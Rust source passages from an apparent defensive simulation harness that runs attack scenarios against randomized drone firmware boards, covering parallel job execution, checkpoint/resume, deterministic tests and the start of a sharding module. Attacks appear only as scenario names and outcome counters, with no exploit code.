                    fold_outcome_metrics(&mut shard, &result.0);
                    meter.observe(&result.0);
                    reorder
                        .lock()
                        .expect("no poisoned queue")
                        .ready
                        .insert(i, result);
                    ready_cond.notify_all();
                }
                let mut q = reorder.lock().expect("no poisoned queue");
                q.workers_live -= 1;
                drop(q);
                ready_cond.notify_all();
                shards.lock().expect("no poisoned shard list").push(shard);
            });
        }
        // In-order drain, on the caller's thread: emit result `k` only
        // after `0..k` have been emitted. The sink runs with the queue
        // unlocked so slow sinks (disk writes) only back-pressure, never
        // block, the workers.
        loop {
            let item = {
                let mut q = reorder.lock().expect("no poisoned queue");
                loop {
                    if let Some(r) = q.ready.remove(&emitted) {
                        break Some(r);
                    }
                    if q.workers_live == 0 {
                        // All claimed jobs are inserted once every worker
                        // exits; nothing at `emitted` means nothing left.
                        break None;
                    }
                    q = ready_cond.wait(q).expect("no poisoned queue");
                }
            };
            let Some((outcome, gcs)) = item else { break };
            sink(emitted, outcome, gcs);
            emitted += 1;
        }
    });
    meter.emit(true);
    // Shard arrival order depends on thread scheduling; the merge does
    // not — it is associative and commutative by construction.
    let mut metrics = MetricsRegistry::new();
    for shard in shards.into_inner().expect("workers done") {
        metrics.merge(&shard);
    }
    (emitted, metrics)
}

/// [`execute_jobs_streaming`] with a collecting sink: results come back
/// positionally aligned with `jobs`. The O(jobs)-memory path, used by the
/// all-in-one [`run_campaign`] (whose report holds every outcome anyway).
fn execute_jobs(
    cfg: &CampaignConfig,
    prepared: &Prepared,
    jobs: &[Job],
    meter: &ProgressMeter<'_>,
) -> (Vec<(BoardOutcome, GroundStation)>, MetricsRegistry) {
    let mut results = Vec::with_capacity(jobs.len());
    let (emitted, metrics) =
        execute_jobs_streaming(cfg, prepared, jobs, meter, |_, outcome, gcs| {
            results.push((outcome, gcs));
        });
    debug_assert_eq!(emitted, results.len());
    (results, metrics)
}

/// The report-header echo of a config — what `"config"` serializes to in
/// the report JSON. Public so external mergers (the campaign service) can
/// stream [`json_prelude`] without assembling a whole report.
pub fn summarize(cfg: &CampaignConfig) -> CampaignSummary {
    CampaignSummary {
        seed: cfg.seed,
        boards: cfg.boards,
        scenarios: cfg.scenarios.iter().map(Scenario::name).collect(),
        loss_levels: cfg.loss_levels.clone(),
        fault_levels: cfg.fault_levels.clone(),
        warmup_cycles: cfg.warmup_cycles,
        attack_cycles: cfg.attack_cycles,
        app: cfg.app.name.to_string(),
        physics: cfg.physics,
    }
}

/// Run the full campaign matrix: `scenarios × loss_levels × fault_levels
/// × boards` jobs, distributed over a worker pool, stitched back in job
/// order.
pub fn run_campaign(cfg: &CampaignConfig) -> CampaignReport {
    run_campaign_with_metrics(cfg).0
}

/// [`run_campaign`], also returning the campaign metrics registry the
/// worker shards merged into. The registry is byte-identical
/// (`to_prometheus`/`to_jsonl`) to [`CampaignReport::metrics`] — the
/// shard path just avoids a second pass over the outcomes — and contains
/// no wall-clock data, so two same-seed runs' expositions diff clean.
pub fn run_campaign_with_metrics(cfg: &CampaignConfig) -> (CampaignReport, MetricsRegistry) {
    let prepared = prepare(cfg);
    let jobs = build_jobs(cfg);
    let meter = ProgressMeter::new(cfg, 0, jobs.len());
    let (results, mut metrics) = execute_jobs(cfg, &prepared, &jobs, &meter);

    let mut router = Router::with_capacity(cfg.gcs_capacity);
    let mut outcomes = Vec::with_capacity(jobs.len());
    for (i, (outcome, gcs)) in results.into_iter().enumerate() {
        router.adopt(i as u64, gcs);
        outcomes.push(outcome);
    }
    let fleet = router.totals();
    // The checkpoint/resume path rebuilds fleet totals from outcomes alone;
    // resumed reports are byte-identical only because this fold agrees with
    // the router.
    debug_assert_eq!(fleet, totals_from_outcomes(&outcomes));
    metrics.set_gauge("campaign_jobs_total", &[], outcomes.len() as f64);
    // Same contract for metrics: the shard-merged registry must agree with
    // the pure fold over the outcome list, or resumed campaigns would
    // expose different bytes.
    debug_assert_eq!(metrics, registry_from_outcomes(&outcomes));

    let report = CampaignReport::assemble(
        summarize(cfg),
        fleet,
        outcomes,
        &cfg.scenarios,
        &cfg.loss_levels,
        &cfg.fault_levels,
    );
    (report, metrics)
}

/// Continue a campaign from `checkpoint`, running at most `budget_jobs`
/// of the still-pending jobs (`None` = all of them). Newly completed
/// outcomes are folded into `checkpoint` (persist it with
/// [`Checkpoint::to_bytes`] between calls).
///
/// Returns `Ok(None)` while the campaign is still incomplete, and
/// `Ok(Some(report))` once every job has run — a report byte-identical
/// (`CampaignReport::to_json`) to an uninterrupted [`run_campaign`] at any
/// thread count. Fails if `checkpoint` fingerprints a different campaign.
pub fn run_campaign_resume(
    cfg: &CampaignConfig,
    checkpoint: &mut Checkpoint,
    budget_jobs: Option<usize>,
) -> Result<Option<CampaignReport>, String> {
    if !checkpoint.matches(cfg) {
        return Err(format!(
            "checkpoint fingerprint {:#018x} does not match this campaign ({:#018x}) — \
             refusing to mix results from different configurations",
            checkpoint.fingerprint,
            config_fingerprint(cfg)
        ));
    }
    let jobs = build_jobs(cfg);
    let done_before = checkpoint.outcomes.len();
    if done_before > 0 {
        let pending = jobs.len() - done_before;
        cfg.telemetry.emit(kinds::CHECKPOINT_RESUMED, None, || {
            vec![
                ("jobs_done", Value::U64(done_before as u64)),
                ("jobs_pending", Value::U64(pending as u64)),
            ]
        });
    }
    let mut pending: Vec<Job> = jobs
        .iter()
        .filter(|j| !checkpoint.outcomes.contains_key(&(j.job_index as u64)))
        .copied()
        .collect();
    if let Some(budget) = budget_jobs {
        pending.truncate(budget);
    }
    let prepared = prepare(cfg);
    let meter = ProgressMeter::new(cfg, done_before, jobs.len());
    // Stream each outcome into the checkpoint as its prefix completes, so
    // an interrupt mid-batch leaves the checkpoint holding exactly the
    // jobs that ran — nothing in flight is lost, nothing partial is kept.
    let (ran, _shard_metrics) =
        execute_jobs_streaming(cfg, &prepared, &pending, &meter, |i, outcome, _gcs| {
            checkpoint.insert_outcome(pending[i].job_index as u64, outcome);
        });
    if cfg.interrupted() {
        cfg.telemetry.emit(kinds::CAMPAIGN_INTERRUPTED, None, || {
            vec![
                ("jobs_done", Value::U64(checkpoint.outcomes.len() as u64)),
                ("jobs_run_now", Value::U64(ran as u64)),
                ("jobs_total", Value::U64(jobs.len() as u64)),
            ]
        });
    }
    if checkpoint.outcomes.len() < jobs.len() {
        return Ok(None);
    }
    // Complete: outcomes iterate in job-index order (BTreeMap), matching
    // the uninterrupted run's stitching order.
    let outcomes: Vec<BoardOutcome> = checkpoint.outcomes.values().cloned().collect();
    let fleet = totals_from_outcomes(&outcomes);
    Ok(Some(CampaignReport::assemble(
        summarize(cfg),
        fleet,
        outcomes,
        &cfg.scenarios,
        &cfg.loss_levels,
        &cfg.fault_levels,
    )))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_cfg() -> CampaignConfig {
        CampaignConfig {
            boards: 2,
            scenarios: vec![Scenario::Benign, Scenario::V2Stealthy],
            loss_levels: vec![0.0],
            attack_cycles: 4_000_000,
            ..CampaignConfig::default()
        }
    }

    #[test]
    fn benign_cell_is_quiet_and_attack_cell_never_succeeds() {
        let report = run_campaign(&small_cfg());
        assert_eq!(report.cells.len(), 2);
        let benign = &report.cells[0];
        assert_eq!(benign.scenario, Scenario::Benign);
        assert_eq!(benign.boards_recovered, 0, "benign boards never recover");
        assert_eq!(benign.attack_successes, 0);
        assert!(benign.heartbeats > 0, "telemetry flows");
        assert_eq!(benign.seq_gaps, 0, "perfect link drops nothing");
        let attacked = &report.cells[1];
        assert_eq!(
            attacked.attack_successes, 0,
            "randomized fleet defeats the canned exploit"
        );
        assert_eq!(report.fleet.links, 4);
        assert_eq!(report.outcomes.len(), 4);
        // Distinct boards draw distinct randomization seeds.
        assert_ne!(report.outcomes[0].board_seed, report.outcomes[1].board_seed);
    }

    #[test]
    fn seed_changes_the_fleet() {
        let a = run_campaign(&small_cfg());
        let b = run_campaign(&CampaignConfig {
            seed: 0x2016,
            ..small_cfg()
        });
        assert_ne!(
            a.outcomes[0].board_seed, b.outcomes[0].board_seed,
            "campaign seed drives board seeds"
        );
    }

    #[test]
    fn derive_seed_streams_are_distinct() {
        let s: std::collections::BTreeSet<u64> = (0..64).map(|i| derive_seed(7, i)).collect();
        assert_eq!(s.len(), 64);
    }

    #[test]
    fn chaos_campaign_is_deterministic_and_faults_bite() {
        let cfg = CampaignConfig {
            boards: 2,
            scenarios: vec![Scenario::V2Stealthy],
            fault_levels: vec![0.0, 0.0005],
            attack_cycles: 3_000_000,
            threads: 1,
            ..CampaignConfig::default()
        };
        let a = run_campaign(&cfg);
        let b = run_campaign(&CampaignConfig {
            threads: 8,
            ..cfg.clone()
        });
        assert_eq!(
            a.to_json(),
            b.to_json(),
            "chaos campaigns are thread-count invariant"
        );

        assert_eq!(a.cells.len(), 2);
        // The clean cell never touches the chaos machinery…
        let clean = &a.cells[0];
        assert_eq!(clean.fault, 0.0);
        assert_eq!(clean.reflash_retries, 0);
        assert_eq!(clean.degraded_boots, 0);
        assert_eq!(clean.boards_bricked, 0);
        // …while the faulted cell visibly exercises the recovery pipeline
        // (bit flips on the reflash stream force retries).
        let noisy = &a.cells[1];
        assert!(noisy.fault > 0.0);
        assert!(
            noisy.reflash_retries > 0,
            "fault injection never tripped a retry: {noisy:?}"
        );
        // Whatever chaos did, the canned exploit still never lands.
        assert_eq!(noisy.attack_successes, 0);
    }

    #[test]
    fn fault_zero_matches_the_chaos_free_engine() {
        // `fault_levels: [0.0]` must not merely be *close* to the
        // pre-chaos engine — the inert fault plan consumes no entropy, so
        // the report must be byte-identical to the default config's.
        let a = run_campaign(&small_cfg());
        let b = run_campaign(&CampaignConfig {
            fault_levels: vec![0.0],
            ..small_cfg()
        });
        assert_eq!(a.to_json(), b.to_json());
        assert!(a
            .outcomes
            .iter()
            .all(|o| !o.bricked && o.reflash_retries == 0 && o.degraded_boots == 0));
    }

    #[test]
    fn poison_jobs_are_quarantined_not_fatal() {
        // Every job is a poison job, yet the campaign completes with a
        // full outcome list and explicit quarantine accounting — and the
        // result is thread-count invariant like any other campaign.
        let cfg = CampaignConfig {
            sabotage: JobChaos {
                panic_rate: 1.0,
                ..JobChaos::none()
            },
            threads: 1,
            ..small_cfg()
        };
        let (report, metrics) = run_campaign_with_metrics(&cfg);
        let (wide, wide_metrics) = run_campaign_with_metrics(&CampaignConfig {
            threads: 4,
            ..cfg.clone()
        });
        assert_eq!(report.to_json(), wide.to_json());
        assert_eq!(metrics.to_prometheus(), wide_metrics.to_prometheus());

        assert_eq!(report.outcomes.len(), cfg.total_jobs());
        for o in &report.outcomes {
            let f = o.failure.expect("poison job carries a failure record");
            assert_eq!(f.kind, JobFailureKind::Panic);
            assert_eq!(f.attempts, JOB_RETRY_CAP);
            assert_eq!(o.final_cycle, 0);
            assert!(o.to_json_line().contains("\"failure\":\"panic\""));
        }
        for cell in &report.cells {
            assert_eq!(cell.jobs_quarantined, cell.boards);
        }
        assert!(report.to_json().contains("\"jobs_quarantined\":2"));
        assert!(metrics
            .to_prometheus()
            .contains("campaign_jobs_quarantined_total"));
        // The harness knob is invisible to the checkpoint identity.
        assert_eq!(
            config_fingerprint(&cfg),
            config_fingerprint(&small_cfg()),
            "sabotage must not change the checkpoint fingerprint"
        );
    }

    #[test]
    fn flaky_jobs_retry_transparently() {
        // Transient failures burn retries, never results: every job that
        // eventually succeeded must be byte-identical to the clean run's,
        // and the quarantined remainder (if any) is explicitly typed.
        let clean = run_campaign(&small_cfg());
        let flaky = run_campaign(&CampaignConfig {
            sabotage: JobChaos {
                flaky_rate: 0.5,
                seed: 0xf1a5,
                ..JobChaos::none()
            },
            ..small_cfg()
        });
        assert_eq!(clean.outcomes.len(), flaky.outcomes.len());
        let mut survived = 0;
        for (c, f) in clean.outcomes.iter().zip(&flaky.outcomes) {
            if let Some(failure) = f.failure {
                assert_eq!(failure.attempts, JOB_RETRY_CAP);
            } else {
                assert_eq!(c, f, "a retried-then-successful job must be untouched");
                survived += 1;
            }
        }
        assert!(survived > 0, "flaky rate 0.5 should let some jobs through");
        // Determinism: the same sabotage seed reproduces the same report.
        let again = run_campaign(&CampaignConfig {
            sabotage: JobChaos {
                flaky_rate: 0.5,
                seed: 0xf1a5,
                ..JobChaos::none()
            },
            ..small_cfg()
        });
        assert_eq!(flaky.to_json(), again.to_json());
    }

    #[test]
    fn hanging_jobs_trip_the_cycle_watchdog() {
        // A non-terminating board must come back as a typed Timeout once
        // its cycle budget expires — tiny cycle counts keep the sabotaged
        // overrun cheap.
        let report = run_campaign(&CampaignConfig {
            boards: 1,
            scenarios: vec![Scenario::Benign],
            warmup_cycles: 40_000,
            attack_cycles: 80_000,
            packet_gap_cycles: 10_000,
            sabotage: JobChaos {
                hang_rate: 1.0,
                ..JobChaos::none()
            },
            ..CampaignConfig::default()
        });
        assert_eq!(report.outcomes.len(), 1);
        let f = report.outcomes[0].failure.expect("hung job is quarantined");
        assert_eq!(f.kind, JobFailureKind::Timeout);
        assert!(report.outcomes[0]
            .to_json_line()
            .contains("\"failure\":\"timeout\""));
    }

    #[test]
    fn fusion_toggle_is_invisible_in_reports_but_visible_in_metrics() {
        let (fused, fused_metrics) = run_campaign_with_metrics(&small_cfg());
        let (plain, plain_metrics) = run_campaign_with_metrics(&CampaignConfig {
            block_fusion: false,
            ..small_cfg()
        });
        // The engine toggle must be architecturally invisible: identical
        // report JSON and JSONL, byte for byte.
        assert_eq!(fused.to_json(), plain.to_json());
        assert_eq!(fused.to_jsonl(), plain.to_jsonl());
        // But the engine counters tell the two runs apart in the metrics
        // plane: fused boards dispatch blocks, unfused boards dispatch none.
        assert!(
            fused.outcomes.iter().all(|o| o.sim_block_hits > 0),
            "every fused board dispatches blocks"
        );
        assert!(plain.outcomes.iter().all(|o| o.sim_block_hits == 0));
        assert!(fused_metrics
            .to_prometheus()
            .contains("campaign_sim_block_hits_total"));
        assert_ne!(fused_metrics.to_prometheus(), plain_metrics.to_prometheus());
    }

    #[test]
    fn checkpointed_campaign_is_byte_identical_to_uninterrupted() {
        let cfg = small_cfg();
        let (uninterrupted, uninterrupted_metrics) = run_campaign_with_metrics(&cfg);

        // Kill after one job, serialize the checkpoint, resume in a second
        // "process" (fresh Checkpoint from bytes) with a different thread
        // count and telemetry attached.
        let mut ckpt = Checkpoint::new(&cfg);
        assert!(run_campaign_resume(&cfg, &mut ckpt, Some(1))
            .unwrap()
            .is_none());
        assert_eq!(ckpt.outcomes.len(), 1);
        let blob = ckpt.to_bytes();

        let resumed_cfg = CampaignConfig {
            threads: 3,
            telemetry: Telemetry::new(telemetry::RingRecorder::new(8)),
            ..small_cfg()
        };
        let mut ckpt2 = Checkpoint::from_bytes(&blob).unwrap();
        let report = run_campaign_resume(&resumed_cfg, &mut ckpt2, None)
            .unwrap()
            .expect("all remaining jobs fit in an unbounded budget");
        assert_eq!(report.to_json(), uninterrupted.to_json());
        // Metrics survive the kill/serialize/resume cycle byte-identically
        // too: the registry is a pure fold over outcomes, and the wire
        // format carried the latency sketch, not a vector.
        assert_eq!(
            report.metrics().to_prometheus(),
            uninterrupted_metrics.to_prometheus()
        );
        assert_eq!(
            report.metrics().to_jsonl(),
            uninterrupted_metrics.to_jsonl()
        );
        assert_eq!(
            ckpt2.latency_sketch, uninterrupted.cells[1].latency_sketch,
            "checkpoint wire sketch must equal the stealthy cell's sketch"
        );
        resumed_cfg
            .telemetry
            .with_recorder::<telemetry::RingRecorder, _>(|r| {
                assert_eq!(r.histogram()[kinds::CHECKPOINT_RESUMED], 1);
            })
            .unwrap();

        // A checkpoint from a different campaign is refused.
        let other = CampaignConfig {
            seed: 0x9999,
            ..small_cfg()
        };
        assert!(
            run_campaign_resume(&other, &mut Checkpoint::from_bytes(&blob).unwrap(), None).is_err()
        );
    }

    fn physics_cfg() -> CampaignConfig {
        CampaignConfig {
            boards: 2,
            scenarios: vec![Scenario::Benign, Scenario::V1Crash],
            attack_cycles: 3_000_000,
            app: apps::synth_quad_flight(),
            physics: true,
            threads: 1,
            ..CampaignConfig::default()
        }
    }

    #[test]
    fn physics_campaign_reports_impact_and_is_thread_invariant() {
        let cfg = physics_cfg();
        let a = run_campaign(&cfg);
        let b = run_campaign(&CampaignConfig {
            threads: 8,
            ..cfg.clone()
        });
        assert_eq!(
            a.to_json(),
            b.to_json(),
            "physics campaigns are thread-count invariant"
        );
        assert!(a.to_json().contains("\"physics\":true"));

        let benign = a.cells[0].world.expect("physics cells carry world metrics");
        assert_eq!(
            benign.boards_crashed, 0,
            "a benign hover never hits the ground"
        );
        assert!(
            benign.peak_alt_err_m < 5.0,
            "hover stays near setpoint, saw {benign:?}"
        );

        let v1_cell = &a.cells[1];
        let v1 = v1_cell.world.expect("physics cells carry world metrics");
        assert!(
            v1_cell.boards_recovered > 0,
            "the crash attack trips recoveries: {v1_cell:?}"
        );
        assert!(
            v1.recoveries_caught > 0,
            "the harness replays every recovery outage: {v1:?}"
        );
        assert!(
            v1.alt_lost_m > 0.0,
            "thrust-cut outages cost altitude: {v1:?}"
        );
        assert!(v1.alt_lost_per_recovery_m().unwrap() > 0.0);
    }

    #[test]
    fn physics_off_report_carries_no_world_keys() {
        // The physics axis must be invisible when off: no impact columns
        // on outcome lines, cells, the summary header, or the metrics
        // plane — the report is the pre-physics engine's, byte for byte.
        let (report, metrics) = run_campaign_with_metrics(&small_cfg());
        for text in [report.to_json(), report.to_jsonl(), report.render()] {
            assert!(!text.contains("peak_alt_err_m"));
            assert!(!text.contains("physics"));
        }
        assert!(!metrics.to_prometheus().contains("campaign_ground_impacts"));
        assert!(report.outcomes.iter().all(|o| o.world.is_none()));
    }

    #[test]
    fn physics_checkpoint_resume_is_byte_identical() {
        let cfg = physics_cfg();
        let uninterrupted = run_campaign(&cfg);

        let mut ckpt = Checkpoint::new(&cfg);
        assert!(run_campaign_resume(&cfg, &mut ckpt, Some(1))
            .unwrap()
            .is_none());
        let blob = ckpt.to_bytes();
        let mut ckpt2 = Checkpoint::from_bytes(&blob).unwrap();
        let report = run_campaign_resume(
            &CampaignConfig {
                threads: 4,
                ..cfg.clone()
            },
            &mut ckpt2,
            None,
        )
        .unwrap()
        .expect("all remaining jobs fit in an unbounded budget");
        assert_eq!(report.to_json(), uninterrupted.to_json());

        // A bare (physics-off) config must refuse a physics checkpoint:
        // the two result families never mix.
        let bare = CampaignConfig {
            physics: false,
            ..cfg.clone()
        };
        assert!(
            run_campaign_resume(&bare, &mut Checkpoint::from_bytes(&blob).unwrap(), None).is_err()
        );
    }

    #[test]
    fn tenants_partition_the_seed_space_without_collisions() {
        // Tenant 0 is the identity: `stream_base` must be the raw seed, so
        // every pre-tenant campaign result (and checkpoint fingerprint)
        // survives unchanged.
        let cfg = small_cfg();
        assert_eq!(cfg.stream_base(), cfg.seed);

        // Distinct tenants on the same seed get fully disjoint derived
        // stream spaces: collect every stream this campaign would draw for
        // 16 tenants and demand zero collisions.
        let mut seen = std::collections::BTreeSet::new();
        let mut count = 0usize;
        for tenant in 0..16u64 {
            let base = CampaignConfig {
                tenant,
                ..small_cfg()
            }
            .stream_base();
            for job in 0..4u64 {
                for stream in [
                    3 * job,
                    3 * job + 1,
                    3 * job + 2,
                    (1 << 63) | job,
                    (1 << 62) | job,
                ] {
                    seen.insert(derive_seed(base, stream));
                    count += 1;
                }
            }
        }
        assert_eq!(seen.len(), count, "tenant stream derivation collided");

        // And a tenant actually changes the fleet it flies.
        let t0 = run_campaign(&cfg);
        let t7 = run_campaign(&CampaignConfig {
            tenant: 7,
            ..small_cfg()
        });
        assert_ne!(t0.outcomes[0].board_seed, t7.outcomes[0].board_seed);
        assert_ne!(t0.to_json(), t7.to_json());
    }

    /// Flips the campaign's interrupt flag the first time a progress
    /// heartbeat crosses the bus — a deterministic stand-in for SIGINT
    /// arriving mid-run.
    struct Tripwire {
        interrupt: Arc<AtomicBool>,
        seen: u64,
    }

    impl telemetry::Recorder for Tripwire {
        fn record(&mut self, event: telemetry::Event) {
            if event.kind == kinds::CAMPAIGN_PROGRESS {
                self.interrupt.store(true, Ordering::Relaxed);
            }
            self.seen += 1;
        }
        fn events_emitted(&self) -> u64 {
            self.seen
        }
    }

    #[test]
    fn interrupt_mid_run_leaves_a_valid_checkpoint_and_resume_is_byte_identical() {
        let uninterrupted = run_campaign(&small_cfg());

        // Trip the flag from inside the run: with a zero heartbeat
        // throttle, the first finished job interrupts the campaign.
        let cfg = small_cfg();
        let icfg = CampaignConfig {
            progress_interval_ms: 0,
            ..cfg.clone()
        };
        let icfg = CampaignConfig {
            telemetry: Telemetry::new(Tripwire {
                interrupt: Arc::clone(&icfg.interrupt),
                seen: 0,
            }),
            ..icfg
        };
        let mut ckpt = Checkpoint::new(&icfg);
        assert!(
            run_campaign_resume(&icfg, &mut ckpt, None)
                .unwrap()
                .is_none(),
            "an interrupted campaign reports incomplete, never a partial report"
        );
        let ran = ckpt.outcomes.len();
        assert!(
            (1..4).contains(&ran),
            "the tripwire stops the campaign mid-flight, saw {ran}/4"
        );
        // Workers claim batch positions from a shared counter and finish
        // what they claimed, so the checkpoint holds a contiguous prefix —
        // exactly the shape a resume expects.
        let keys: Vec<u64> = ckpt.outcomes.keys().copied().collect();
        assert_eq!(keys, (0..ran as u64).collect::<Vec<_>>());

        // Round-trip through bytes (what the SIGINT handler persists) and
        // resume in a fresh "process" — `small_cfg()` carries a fresh,
        // untripped interrupt flag (`cfg`'s Arc is shared with the
        // tripwire and stays set).
        let mut ckpt2 = Checkpoint::from_bytes(&ckpt.to_bytes()).unwrap();
        let report = run_campaign_resume(&small_cfg(), &mut ckpt2, None)
            .unwrap()
            .expect("resume completes the matrix");
        assert_eq!(report.to_json(), uninterrupted.to_json());

        // A flag already set at entry stops the run before any job starts,
        // and the (empty) checkpoint is still resumable.
        let pre = small_cfg();
        pre.interrupt.store(true, Ordering::Relaxed);
        let mut empty = Checkpoint::new(&pre);
        assert!(run_campaign_resume(&pre, &mut empty, None)
            .unwrap()
            .is_none());
        assert_eq!(empty.outcomes.len(), 0);
    }

    #[test]
    fn resumed_progress_heartbeats_count_from_the_checkpoint_and_carry_eta() {
        // Regression guard: a resumed campaign's first heartbeat must
        // report `done_before + 1` jobs done, not restart from 1 — and
        // every heartbeat carries this-run throughput and an ETA.
        let cfg = small_cfg();
        let mut ckpt = Checkpoint::new(&cfg);
        assert!(run_campaign_resume(&cfg, &mut ckpt, Some(2))
            .unwrap()
            .is_none());

        let resumed = CampaignConfig {
            telemetry: Telemetry::new(telemetry::RingRecorder::new(64)),
            progress_interval_ms: 0,
            threads: 1,
            ..small_cfg()
        };
        run_campaign_resume(&resumed, &mut ckpt, None)
            .unwrap()
            .expect("resume completes the matrix");
        resumed
            .telemetry
            .with_recorder::<telemetry::RingRecorder, _>(|r| {
                let beats: Vec<_> = r
                    .events()
                    .filter(|e| e.kind == kinds::CAMPAIGN_PROGRESS)
                    .collect();
                assert!(!beats.is_empty());
                let done_of = |e: &telemetry::Event| match e.field("jobs_done") {
                    Some(Value::U64(n)) => *n,
                    other => panic!("heartbeat without jobs_done: {other:?}"),
                };
                assert_eq!(
                    done_of(beats[0]),
                    3,
                    "first resumed heartbeat counts from the checkpoint's 2 jobs"
                );
                for pair in beats.windows(2) {
                    assert!(done_of(pair[0]) <= done_of(pair[1]));
                }
                for beat in &beats {
                    assert!(matches!(beat.field("jobs_per_sec"), Some(Value::F64(_))));
                    match beat.field("eta_s") {
                        Some(Value::F64(eta)) => assert!(*eta >= 0.0),
                        other => panic!("heartbeat without eta_s: {other:?}"),
                    }
                }
            })
            .unwrap();
    }
}
