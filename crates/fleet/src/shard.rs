//! Sharded campaigns: split the job space into contiguous, independently
//! checkpointed segments, run them in any order (or on any machine), and
//! merge the shards back into the byte-identical [`CampaignReport`] an
//! unsharded run would have produced.
//!
//! Why this is sound: the campaign is a pure function of its config, each
//! job is independent, and every aggregate the report carries — cell
//! matrix, fleet totals, metrics registry, latency sketches — is a pure
//! fold over the outcome list in job order. A partition of `[0, total)`
//! into contiguous ranges concatenates back into exactly that list, so
//! merge determinism is inherited, not engineered. The proptests in
//! `tests/shard_props.rs` enforce it for arbitrary partitions and
//! mid-shard resumes.
//!
//! Memory model: running one shard holds O(shard jobs + cells); merging
//! streams shard-by-shard and holds O(largest shard + cells). Neither
//! ever holds the whole campaign, which is what lets a million-board
//! campaign run in the same RAM as an 8-board one.

use crate::checkpoint::{get_outcome, put_outcome};
use crate::report::BoardOutcome;
use crate::{
    config_fingerprint, summarize, totals_from_outcomes, CampaignConfig, CampaignReport, Job,
    PreparedCampaign, ProgressMeter,
};
use mavr_snapshot::{Kind, Reader, SnapshotError, Writer};
use std::collections::BTreeMap;
use telemetry::metrics::MetricsRegistry;

/// How a campaign's job space is cut into shards: contiguous ranges of at
/// most `shard_jobs` jobs, in job order. The plan is *not* part of the
/// config fingerprint — re-sharding a campaign never changes its result.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ShardPlan {
    /// Total jobs in the campaign matrix.
    pub total_jobs: u64,
    /// Jobs per shard (the last shard may be shorter).
    pub shard_jobs: u64,
}

impl ShardPlan {
    /// The plan for `cfg` with `shard_jobs` jobs per shard (clamped to at
    /// least 1).
    pub fn new(cfg: &CampaignConfig, shard_jobs: u64) -> Self {
        ShardPlan {
            total_jobs: cfg.total_jobs() as u64,
            shard_jobs: shard_jobs.max(1),
        }
    }

    /// Number of shards in the plan.
    pub fn shard_count(&self) -> u64 {
        self.total_jobs.div_ceil(self.shard_jobs)
    }

    /// The job range `[lo, hi)` of shard `index`.
    pub fn range(&self, index: u64) -> std::ops::Range<u64> {
        let lo = (index * self.shard_jobs).min(self.total_jobs);
        let hi = ((index + 1) * self.shard_jobs).min(self.total_jobs);
        lo..hi
    }
}

/// Persistent progress of one shard: its identity (campaign fingerprint,
/// plan coordinates, job range) and the outcomes of the range's completed
/// jobs. Serialized as [`Kind::ShardCheckpoint`] — a distinct wire kind
/// from whole-campaign checkpoints, so the two can never be confused.
#[derive(Debug, Clone, PartialEq)]
pub struct ShardCheckpoint {
    /// [`config_fingerprint`] of the campaign this shard belongs to.
    pub fingerprint: u64,
    /// Position of this shard in its plan.
    pub shard_index: u64,
    /// Shards in the plan that produced this shard (metadata; merge
    /// accepts any set of complete shards that partitions the job space).
    pub shard_count: u64,
    /// First job index of the shard's range.
    pub job_lo: u64,
    /// One past the last job index of the shard's range.
    pub job_hi: u64,
    /// Completed jobs of this range: job index → outcome.
    pub outcomes: BTreeMap<u64, BoardOutcome>,
}

impl ShardCheckpoint {
    /// An empty shard checkpoint for shard `index` of `plan`.
    pub fn new(cfg: &CampaignConfig, plan: &ShardPlan, index: u64) -> Self {
        let range = plan.range(index);
        ShardCheckpoint {
            fingerprint: config_fingerprint(cfg),
            shard_index: index,
            shard_count: plan.shard_count(),
            job_lo: range.start,
            job_hi: range.end,
            outcomes: BTreeMap::new(),
        }
    }

    /// Whether this shard belongs to `cfg`.
    pub fn matches(&self, cfg: &CampaignConfig) -> bool {
        self.fingerprint == config_fingerprint(cfg)
    }

    /// Jobs in the shard's range.
    pub fn jobs(&self) -> u64 {
        self.job_hi - self.job_lo
    }

    /// Whether every job in the range has an outcome.
    pub fn complete(&self) -> bool {
        self.outcomes.len() as u64 == self.jobs()
    }

    /// Record a completed job. Panics on a duplicate or out-of-range
    /// index — both are caller bugs that would corrupt the merge.
    pub fn insert_outcome(&mut self, job: u64, outcome: BoardOutcome) {
        assert!(
            (self.job_lo..self.job_hi).contains(&job),
            "job {job} outside shard range {}..{}",
            self.job_lo,
            self.job_hi
        );
        assert!(
            self.outcomes.insert(job, outcome).is_none(),
            "job {job} checkpointed twice"
        );
    }

    /// Serialize as a CRC-guarded snapshot blob ([`Kind::ShardCheckpoint`]).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = Writer::new();
        w.put_u64(self.fingerprint);
        w.put_u64(self.shard_index);
        w.put_u64(self.shard_count);
        w.put_u64(self.job_lo);
        w.put_u64(self.job_hi);
        w.put_u64(self.outcomes.len() as u64);
        for (&job, outcome) in &self.outcomes {
            w.put_u64(job);
            put_outcome(&mut w, outcome);
        }
        w.finish(Kind::ShardCheckpoint)
    }

    /// Deserialize a blob written by [`ShardCheckpoint::to_bytes`].
    pub fn from_bytes(bytes: &[u8]) -> Result<Self, SnapshotError> {
        let mut r = Reader::open_expecting(bytes, Kind::ShardCheckpoint)?;
        let fingerprint = r.u64()?;
        let shard_index = r.u64()?;
        let shard_count = r.u64()?;
        let job_lo = r.u64()?;
        let job_hi = r.u64()?;
        if job_hi < job_lo {
            return Err(SnapshotError::Malformed(format!(
                "shard range {job_lo}..{job_hi}"
            )));
        }
        let n = r.u64()?;
        if n > job_hi - job_lo {
            return Err(SnapshotError::Malformed(format!(
                "{n} outcomes in a {}-job shard",
                job_hi - job_lo
            )));
        }
        let mut outcomes = BTreeMap::new();
        for _ in 0..n {
            let job = r.u64()?;
            if !(job_lo..job_hi).contains(&job) {
                return Err(SnapshotError::Malformed(format!(
                    "outcome for job {job} outside shard range {job_lo}..{job_hi}"
                )));
            }
            if outcomes.insert(job, get_outcome(&mut r)?).is_some() {
                return Err(SnapshotError::Malformed(format!("job {job} twice")));
            }
        }
        r.done()?;
        Ok(ShardCheckpoint {
            fingerprint,
            shard_index,
            shard_count,
            job_lo,
            job_hi,
            outcomes,
        })
    }
}

/// What one [`run_shard_resume`] call did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ShardRunStatus {
    /// Jobs that ran in this call.
    pub ran: usize,
    /// Whether the shard's whole range is now complete.
    pub complete: bool,
    /// Whether the run stopped early on the config's interrupt flag.
    pub interrupted: bool,
}

/// Run (or resume) one shard: fly the still-pending jobs of `ckpt`'s
/// range — at most `budget_jobs` of them — folding each outcome into the
